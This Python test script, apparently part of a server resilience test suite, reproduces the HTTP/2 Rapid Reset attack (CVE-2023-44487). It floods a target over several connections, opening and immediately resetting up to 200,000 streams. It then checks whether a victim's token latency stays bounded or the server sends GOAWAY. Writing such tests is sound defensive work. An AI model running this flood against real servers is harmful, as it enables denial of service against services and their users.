"""F11: streams opened and reset at once (CVE-2023-44487).

Bound: the victim's TTFT p99 <= 2 x idle, or the connection is told to go away.
"""

from __future__ import annotations

import time

from tests.attacks.common import (
    GENERATION,
    Probe,
    arguments,
    baseline,
    field,
    number,
    shown,
    verdict,
)
from tests.support.http2 import Connection

args = arguments(__doc__, connections=4)
MESSAGE = field(2, field(1, b"def f(" * 40)) + number(3, 64)
before = baseline(args.target, args.victim, "tokens")
probe = Probe(args.target, args.victim, "tokens", args.seconds)
time.sleep(1)
connections = [Connection(args.target) for _ in range(min(args.connections, 16))]
for connection in connections:
    connection.pump(0.1)
end, n, n_goaway = time.monotonic() + args.seconds - 2, 0, 0
while time.monotonic() < end and n < 200_000:
    for i, connection in enumerate(connections):
        if connection.is_closed or connection.has_goaway or connection.next_stream > 1 << 30:
            n_goaway += connection.has_goaway
            connection.close()
            try:
                connections[i] = Connection(args.target)
            except OSError:
                time.sleep(0.1)
            continue
        for _ in range(20):
            connection.reset(connection.open(GENERATION + "Generate", MESSAGE, args.key))
            n += 1
        connection.pump(0.001)
during = probe.result()
for connection in connections:
    connection.close()
verdict(
    "a18_rapid_reset",
    during["p99"] > max(2 * before["p99"], 100) and not n_goaway,
    f"{n} streams opened and reset, {n_goaway} connections told to go away; victim's TTFT"
    f" {shown(before)} -> {shown(during)}",
)
